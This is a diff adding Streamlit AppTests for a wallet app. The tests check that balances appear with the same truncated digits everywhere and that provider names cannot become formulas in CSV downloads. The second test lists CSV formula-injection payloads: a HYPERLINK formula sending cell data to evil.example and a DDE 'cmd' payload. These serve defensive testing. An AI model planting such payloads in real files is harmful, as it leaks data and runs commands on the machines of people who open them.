@@ -1,0 +1,61 @@
+"""Rough edges a newcomer hit (issue 11, What §4), as fast AppTests against the in-memory client: the same
+digits for the same balance everywhere, provider text that cannot become a spreadsheet formula or
+markdown in a download, and download names that say what they hold."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+from streamlit.testing.v1 import AppTest
+
+from tests.support.app import APP, check, texts
+from tests.support.fake_client import FakeNetwork, SubAccount
+
+TIMEOUT = 30
+ODD_WEI = 1_999_781_834_000_000_000  # 1.999781834 OG: 2, 4 and 6 decimals, rounded or cut, all differ
+
+
+def _open(page: str | None = None) -> AppTest:
+    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
+    check(at.run())
+    if page:
+        at.switch_page(f"app_pages/{page}.py")
+        check(at.run())
+    return at
+
+
+def _user(net: FakeNetwork) -> str:
+    return next(c.address for c in net.clients if c.address)
+
+
+def _sidebar_lines(at: AppTest) -> str:
+    return " ".join(texts(at.sidebar.markdown))
+
+
+def test_the_same_balance_shows_the_same_digits_in_the_sidebar_and_on_the_wallet_page(fake_net):
+    at = _open("wallet")
+    user = _user(fake_net)
+    fake_net.wallets[user] = ODD_WEI
+    fake_net.ledgers[user] = ODD_WEI
+    fake_net.accounts[(user, fake_net.of_type("chatbot").provider)] = SubAccount(balance_wei=ODD_WEI)
+    check(at.run())
+    shown = "1.9997 OG"  # 4 decimals, cut (never rounded up to 2 OG)
+    assert {m.label: m.value for m in at.sidebar.metric}["Wallet balance"] == shown
+    cards = {m.label: m.value for m in at.main.metric}
+    assert cards["Wallet"] == shown and cards["Ledger available"] == shown
+    assert f"Ledger available: **{shown}**" in _sidebar_lines(at)
+    assert f"Locked with providers: **{shown}**" in _sidebar_lines(at)
+    table = next(d.value for d in at.dataframe if "usable" in d.value.columns)
+    assert list(table["balance"]) == [shown] and list(table["usable"]) == [shown]
+    exact = next(m for m in at.main.metric if m.label == "Wallet").help
+    assert "1.999781834 OG" in exact  # the exact figure, on demand
+
+
+def test_a_provider_named_like_a_formula_is_not_a_formula_in_the_tables_csv(fake_net):
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+    fake_net.services[:4] = [replace(s, model=n) for s, n in zip(fake_net.services, names, strict=False)]
+    at = _open()
+    models = list(at.dataframe(key="disc_table").value["model"])
+    risky = [m for m in models if m[:1] in "=+-@"]
+    assert not risky, risky  # a cell the built-in CSV download would hand a spreadsheet as a formula
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in models  # still readable as typed
